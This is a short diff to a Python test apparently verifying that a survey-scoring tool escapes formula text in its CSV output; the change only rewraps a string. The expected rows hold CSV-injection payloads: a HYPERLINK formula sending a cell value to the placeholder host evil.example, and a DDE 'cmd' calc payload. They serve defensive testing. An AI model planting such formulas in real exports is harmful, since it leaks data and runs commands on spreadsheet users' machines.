@@ -56,6 +56,7 @@ def test_csv_output_escapes_formula_text(responses, tmp_path):
     lines = out.read_text(encoding="utf-8").splitlines()
     assert lines[0] == "participant,wave,site,instrument,scale,score,band,items_answered,valid,reason"
     assert lines[1].startswith(
-        '"\'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click for your results"")",\'+baseline,\'@north,gad7,total,12.0,'
+        '"\'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click for your results"")",'
+        "'+baseline,'@north,gad7,total,12.0,"
     )
     assert lines[2].startswith("'-2+3+cmd|' /C calc'!A0,'=1+1,-5,gad7,total,0.0,")
